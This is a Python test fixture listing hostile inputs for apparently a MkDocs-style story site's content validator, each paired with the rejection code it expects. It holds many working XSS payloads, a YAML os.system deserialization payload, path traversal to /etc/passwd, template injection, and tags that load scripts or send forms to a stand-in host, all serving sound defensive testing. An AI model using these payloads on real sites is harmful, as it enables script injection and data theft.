"""The hostile corpus: what strangers try, in a title, in the front matter, in the text, beside the story.

Each attempt has the code it must be refused with; an empty code means that nothing is wrong with it
and that it must be proven harmless. Made up by us; no real site, person or place is meant.
"""

import json
from dataclasses import dataclass

from tests.conftest import GOOD_STORY

PRIVATE = "RIENG-TU-9071"
"""Stands for what must never be published: written in comments and keys that no page shows."""
SIGN = "alert(9071)"
"""What a script that got through would say."""
FOREIGN = "xau.example"
"""Where a request that got through would go."""


@dataclass(frozen=True)
class Attempt:
    """One thing that somebody tries."""

    tries: str
    code: str
    text: str


TITLES = [
    Attempt("a script", "markup-in-text", f"Bài <script>{SIGN}</script>"),
    Attempt("the end of the title, then a script", "markup-in-text", f"Bài</title><script>{SIGN}</script>"),
    Attempt("entities that a second decoding makes a tag", "", f"Bài &lt;script&gt;{SIGN}&lt;/script&gt;"),
    Attempt("numeric entities", "", f"Bài &#60;img src=x onerror={SIGN}&#62;"),
    Attempt("an image that fails", "markup-in-text", f"Bài <img src=x onerror={SIGN}>"),
    Attempt("a drawing that loads", "markup-in-text", f"Bài <svg/onload={SIGN}>"),
    Attempt("the end of an attribute", "", f'Bài thử" onmouseover="{SIGN}" x="'),
    Attempt("the end of an attribute in single quotes", "", f"Bài thử' onfocus='{SIGN}' autofocus='"),
    Attempt("the end of an attribute, then a tag", "markup-in-text", f'Bài"><script>{SIGN}</script>'),
    Attempt("the end of a JSON-LD block", "markup-in-text", f'Bài"}}</script><script>{SIGN}</script>'),
    Attempt("a comment inside JSON-LD", "markup-in-text", "Bài <!-- <script> thử"),
    Attempt("the end of CDATA", "markup-in-text", f"Bài ]]><script>{SIGN}</script>"),
    Attempt("an expression of a template", "markup-in-text", "Bài {{ config.extra }} thử"),
    Attempt("a statement of a template", "markup-in-text", "Bài {% include 'mkdocs.yml' %} thử"),
    Attempt("a comment of a template", "markup-in-text", "Bài {# giấu #} thử"),
    Attempt("a template literal", "markup-in-text", f"Bài ${{{SIGN}}} thử"),
    Attempt("JavaScript without signs", "", f"Bài thử'-{SIGN}-'"),
    Attempt("a backslash and quotes", "", 'Bài thử \\" \\u003cscript\\u003e'),
    Attempt("the end of the front matter", "", "Bài thử\n---\ntemplate: x.html\nhide: [toc]"),
    Attempt("a line separator", "forbidden-character", "Bài\u2028thử một chuyện"),
    Attempt("text that runs backwards", "forbidden-character", "Bài \u202egnp.exe\u202c thử"),
    Attempt("isolates", "forbidden-character", "Bài \u2067thử\u2069 một chuyện"),
    Attempt("words of a right-to-left script", "", "Bài thử مرحبا بالعالم"),
    Attempt("a NUL", "forbidden-character", "Bài\x00thử một chuyện"),
    Attempt("an escape sequence", "forbidden-character", "Bài \x1b[2J thử một"),
    Attempt("a command for a CI log", "", "::error file=a::Bài thử"),
    Attempt("two thousand letters", "too-long", "Bài " + "x" * 2000),
    Attempt("a hundred marks on one letter", "", "Bài thử a" + "\u0316" * 90),
    Attempt("zero-width letters", "forbidden-character", "Bài\u200bthử một chuyện"),
    Attempt("a formula for Excel", "", '=HYPERLINK("http://xau.example";"x")'),
    Attempt("Markdown that is a link", "", "[Bài](javascript:alert(9071)) thử"),
    Attempt("a tag in full-width signs", "", f"Bài ＜script＞{SIGN}＜/script＞"),
]

PHOTO = (
    "photos: [{file: ../../../bi-mat.jpg, alt: Mười người ngồi quanh bàn, caption: Buổi họp, credit: Tổ, "
    "licence: site-only}]"
)
KEYS = [
    Attempt("a template of the engine", "unknown-key", "template: 404.html"),
    Attempt("hiding parts of the page", "unknown-key", "hide: [navigation, toc]"),
    Attempt("going first in search", "unknown-key", "search: {boost: 1000000}"),
    Attempt("the body of the staged page", "unknown-key", f'html: "{PRIVATE}"'),
    Attempt("a policy of one's own", "unknown-key", 'policy: "script-src *"'),
    Attempt("a key for oneself", "unknown-key", f"ghi_chu: {PRIVATE}"),
    Attempt("a Python object", "yaml-tag", "topics: !!python/object/apply:os.system [id]"),
    Attempt("a tag of one's own", "yaml-tag", "topics: !x [a]"),
    Attempt("an anchor", "yaml-alias", "topics: &a [b]"),
    Attempt("a bomb of aliases", "yaml-alias", "topics: &a [x]\nresults: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]"),
    Attempt("a merge key", "yaml-merge", "<<: {title: x}"),
    Attempt("three thousand levels", "yaml-too-deep", "topics: " + "[" * 3000),
    Attempt("a second document", "yaml-many-documents", "...\n--- {a: b}"),
    Attempt("a photo from above", "bad-form", PHOTO),
    Attempt("a photo from the root", "bad-form", PHOTO.replace("../../../bi-mat.jpg", "/etc/passwd")),
    Attempt("a photo from a drive", "bad-form", PHOTO.replace("../../../bi-mat.jpg", "'C:\\a.jpg'")),
    Attempt("a photo from elsewhere", "bad-form", PHOTO.replace("../../../bi-mat.jpg", f"'//{FOREIGN}/a.jpg'")),
    Attempt("a photo in code", "bad-form", PHOTO.replace("../../../bi-mat.jpg", "'data:image/png;base64,AA'")),
    Attempt("a script in a description", "markup-in-text", PHOTO.replace("quanh bàn", f"<script>{SIGN}</script>")),
    Attempt(
        "a source that is a script",
        "bad-address",
        f"coverage: [{{outlet: Báo, date: 2020-01-01, title: Bài báo, url: 'javascript:{SIGN}'}}]",
    ),
    Attempt(
        "a source with a password",
        "bad-address",
        "coverage: [{outlet: Báo, date: 2020-01-01, title: Bài báo, url: 'https://a:b@xau.example/'}]",
    ),
    Attempt(
        "an approval of one's own",
        "unknown-approver",
        "approval: {by: Tôi, document: 1-CV/X, date: 2020-01-01, digest: 'sha256:" + "0" * 64 + "'}",
    ),
]

BODIES = [
    Attempt("a script", "raw-html", f"<script>{SIGN}</script>"),
    Attempt("a script in the line", "raw-html", f"Một <script>{SIGN}</script> hai"),
    Attempt("a script in parts", "raw-html", f"<scr<script>ipt>{SIGN}</scr</script>ipt>"),
    Attempt("a script that is never closed", "raw-html", f"<script>{SIGN}"),
    Attempt("a script from elsewhere", "raw-html", f"<script src=//{FOREIGN}/a.js></script>"),
    Attempt("an image that fails", "raw-html", f"<img src=x onerror={SIGN}>"),
    Attempt("an image with slashes, which is no tag", "", f"<img/src=x/onerror={SIGN}>"),
    Attempt("an image with a form feed", "forbidden-character", f"<img\fsrc=x\fonerror={SIGN}>"),
    Attempt("a drawing that loads", "raw-html", f"<svg onload={SIGN}></svg>"),
    Attempt("a script in a drawing", "raw-html", f"<svg><script>{SIGN}</script></svg>"),
    Attempt(
        "an animation of an address",
        "raw-html",
        f"<svg><a><animate attributeName=href values=javascript:{SIGN} /></a></svg>",
    ),
    Attempt("a formula that hides a tag", "raw-html", f"<math><mtext><table><mglyph><style><img src=x onerror={SIGN}>"),
    Attempt("a comment that ends early", "raw-html", f"<!--><img src=x onerror={SIGN}>-->"),
    Attempt(
        "a noscript that ends in an attribute",
        "raw-html",
        f'<noscript><p title="</noscript><img src=x onerror={SIGN}>">',
    ),
    Attempt(
        "a style sheet that ends in an attribute",
        "raw-html",
        f'<svg><style><a title="</style><img src=x onerror={SIGN}>">',
    ),
    Attempt(
        "a textarea that ends in an attribute",
        "raw-html",
        f'<textarea><p title="</textarea><img src=x onerror={SIGN}>">',
    ),
    Attempt("a template", "raw-html", f"<template><img src=x onerror={SIGN}></template>"),
    Attempt("a select", "raw-html", f"<select><img src=x onerror={SIGN}></select>"),
    Attempt("a field that asks for the focus", "raw-html", f"<input onfocus={SIGN} autofocus>"),
    Attempt("details that open", "raw-html", f"<details open ontoggle={SIGN}>x</details>"),
    Attempt("a frame", "raw-html", f"<iframe src=//{FOREIGN}/></iframe>"),
    Attempt("a frame with its page inside", "raw-html", f'<iframe srcdoc="<script>parent.{SIGN}</script>"></iframe>'),
    Attempt("an object", "raw-html", f"<object data=//{FOREIGN}/a.swf></object>"),
    Attempt("an embed", "raw-html", f"<embed src=//{FOREIGN}/a.swf>"),
    Attempt("a form that sends away", "raw-html", f"<form action=//{FOREIGN}/><button>Tiếp</button></form>"),
    Attempt("another base", "raw-html", f"<base href=//{FOREIGN}/>"),
    Attempt("a refresh", "raw-html", f'<meta http-equiv=refresh content="0;url=//{FOREIGN}/">'),
    Attempt("a policy that allows all", "raw-html", '<meta http-equiv=Content-Security-Policy content="script-src *">'),
    Attempt(
        "a style", "raw-html", f"<style>@import '//{FOREIGN}/a.css'; body {{ background: url(//{FOREIGN}/a) }}</style>"
    ),
    Attempt(
        "a style attribute over the page",
        "raw-html",
        f'<p style="position:fixed;inset:0;background:url(//{FOREIGN}/a)">x</p>',
    ),
    Attempt("a style sheet from elsewhere", "raw-html", f"<link rel=stylesheet href=//{FOREIGN}/a.css>"),
    Attempt("a request before it is needed", "raw-html", f"<link rel=dns-prefetch href=//{FOREIGN}/>"),
    Attempt("an image set", "raw-html", f'<img srcset="//{FOREIGN}/a 1x">'),
    Attempt("a video with a poster", "raw-html", f"<video poster=//{FOREIGN}/a><source src=//{FOREIGN}/b></video>"),
    Attempt("a background of old", "raw-html", f"<table background=//{FOREIGN}/a><tr><td>x</table>"),
    Attempt("an id of the page", "raw-html", "<form id=kham-pha><input name=action></form>"),
    Attempt("the end of the page", "raw-html", f"</div></article></main></body></html><script>{SIGN}</script>"),
    Attempt("an element of one's own", "raw-html", f"<x-y onclick={SIGN} tabindex=1 id=x>x</x-y>"),
    Attempt("CDATA", "raw-html", f"<![CDATA[<script>{SIGN}</script>]]>"),
    Attempt(
        "a processing instruction", "raw-html", f"<?php system('id') ?><?xml version='1.0'?><script>{SIGN}</script>"
    ),
    Attempt("a comment with a secret", "raw-html", f"<!-- {PRIVATE} -->"),
    Attempt("a link that is a script", "link-scheme", f"[x](javascript:{SIGN})"),
    Attempt("the same in capitals", "link-scheme", f"[x](JaVaScRiPt:{SIGN})"),
    Attempt("the same in entities", "link-scheme", f"[x](&#106;avascript&colon;{SIGN})"),
    Attempt("the same by reference", "link-scheme", f"[x][1]\n\n[1]: javascript:{SIGN}"),
    Attempt("the same in angle brackets", "link-scheme", f"[x](<javascript:{SIGN}>)"),
    Attempt("the same as an autolink", "link-scheme", f"<javascript:{SIGN}>"),
    Attempt("the same with a tab", "link-target", f"[x](<java&Tab;script:{SIGN}>)"),
    Attempt("the same behind a control character", "link-target", f"[x](<&#1;javascript:{SIGN}>)"),
    Attempt("a link that is a page", "link-scheme", f"[x](data:text/html,<script>{SIGN}</script>)"),
    Attempt("a link that is an old script", "link-scheme", "[x](vbscript:msgbox)"),
    Attempt("a link to a file", "link-scheme", "[x](file:///etc/passwd)"),
    Attempt("a link without a scheme", "link-scheme", f"[x](//{FOREIGN}/)"),
    Attempt("a link with backslashes", "link-target", f"[x](/\\\\{FOREIGN}/)"),
    Attempt("a link upwards", "link-target", "[x](../../../.edition)"),
    Attempt("a link with a password", "link-target", f"[x](https://ngan-hang.example@{FOREIGN}/)"),
    Attempt("an image from elsewhere", "image-unlisted", f"![x](https://{FOREIGN}/a.gif)"),
    Attempt("an image without a scheme", "image-unlisted", f"![x](//{FOREIGN}/a.gif)"),
    Attempt("an image in code", "image-unlisted", "![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    Attempt("an image that is a script", "image-unlisted", f"![x](javascript:{SIGN})"),
    Attempt("an image from above", "image-unlisted", "![x](../../bi-mat.jpg)"),
    Attempt("an image whose words end the attribute", "image-unlisted", f'![" onerror="{SIGN}](a.jpg)'),
    Attempt("a link whose title ends the attribute", "", f"[x](https://bao.example/ '\" onmouseover=\"{SIGN}')"),
    Attempt("attributes in braces", "", f'Chữ {{: onclick="{SIGN}" style="position:fixed" id="tim" }}'),
    Attempt("attributes on a link", "", f"[x](https://bao.example/){{ onclick={SIGN} }}"),
    Attempt("an expression of a template", "template-syntax", "{{ config.extra.policy }} {{ ''.__class__ }}"),
    Attempt("a statement of a template", "template-syntax", "{% include 'mkdocs.yml' %}"),
    Attempt("a file to be included", "", '--8<-- "mkdocs.yml"'),
    Attempt("a file to be included, of the system", "", '--8<-- "/etc/passwd"\n\n!INCLUDE "mkdocs.yml"\n\n[TOC]'),
    Attempt("twenty thousand brackets", "", "[" * 20000),
    Attempt("five thousand openings", "", "\\<a " * 5000),
    Attempt("three hundred levels", "nested-too-deep", "\n".join("  " * n + "- x" for n in range(300))),
    Attempt("a line of hundred thousand letters", "too-heavy", "x" * 100_000),
    Attempt("code", "code-block", f"    <script>{SIGN}</script>"),
    Attempt("code in the line", "", f"`<script>{SIGN}</script>` và ``<img src=x onerror={SIGN}>``"),
    Attempt("entities", "", f"&lt;script&gt;{SIGN}&lt;/script&gt; &#x3c;img src=x onerror={SIGN}&#x3e;"),
    Attempt("entities of entities", "", f"&amp;lt;script&amp;gt;{SIGN}"),
    Attempt("a template literal", "", f"${{{SIGN}}} `${{{SIGN}}}`"),
    Attempt("a secret in a reference that nothing uses", "", f"Chữ.\n\n[ghi chú]: https://bao.example/ '{PRIVATE}'"),
    Attempt("front matter in the text", "section-unknown", "Chữ\n---\ntitle: x\napproval: y\n---\nChữ"),
    Attempt("text that runs backwards", "forbidden-character", "Chữ \u202etpircs\u202c"),
    Attempt("the same in an entity", "forbidden-character", "Chữ &#x202e;tpircs&#x202c;"),
    Attempt("an escape sequence in an entity", "forbidden-character", "Chữ &#27;[2J"),
    Attempt("a NUL", "forbidden-character", f"<\x00script>{SIGN}</script>"),
    Attempt("a command for a CI log", "", "::stop-commands::x\n::error::y\n##[error]z"),
]

FILES = [
    Attempt("a page", "file-type", "trang.html"),
    Attempt("a script", "file-type", "ma.js"),
    Attempt("a service worker", "file-type", "sw.js"),
    Attempt("a drawing", "file-type", "hinh.svg"),
    Attempt("a style sheet", "file-type", "site.css"),
    Attempt("headers for the host", "file-type", "_headers"),
    Attempt("redirects for the host", "file-type", "_redirects"),
    Attempt("another domain", "file-type", "CNAME"),
    Attempt("rules for Apache", "file-type", ".htaccess"),
    Attempt("rules for robots", "file-type", "robots.txt"),
    Attempt("another story", "file-type", "bai-hai.md"),
    Attempt("a story in capitals", "name-twins", "INDEX.md"),
    Attempt("a photo with two endings", "media-unused", "anh.html.jpg"),
    Attempt("a photo with a space and a quote", "file-name", 'a" onerror="x.jpg'),
    Attempt("a photo that nobody lists", "media-unused", "anh.jpg"),
    Attempt("a configuration", "file-type", "mkdocs.yml"),
]

RAW = [
    Attempt("a byte order mark", "byte-order-mark", "\ufeff" + GOOD_STORY),
    Attempt("front matter that is never closed", "front-matter-unclosed", f"---\ntitle: {PRIVATE}\n"),
    Attempt("no front matter", "front-matter-missing", f"<script>{SIGN}</script>\n{GOOD_STORY}"),
    Attempt("a list for front matter", "front-matter-not-mapping", f"---\n- {PRIVATE}\n---\n## Cách làm\n\nChữ.\n"),
    Attempt("the same key twice", "duplicate-key", GOOD_STORY.replace("kind:", "title: Bài khác hẳn bài kia\nkind:")),
]


def with_title(text: str) -> str:
    """Return a good story but for its title; a JSON string is a YAML string."""
    return GOOD_STORY.replace("title: Tổ Ba cùng nhau vét kênh", f"title: {json.dumps(text, ensure_ascii=True)}")


def with_body(text: str) -> str:
    """Return a good story but for its text."""
    front = GOOD_STORY.split("## Cách làm", maxsplit=1)[0]
    return f"{front}## Cách làm\n\nCả tổ cùng làm.\n\n{text}\n"
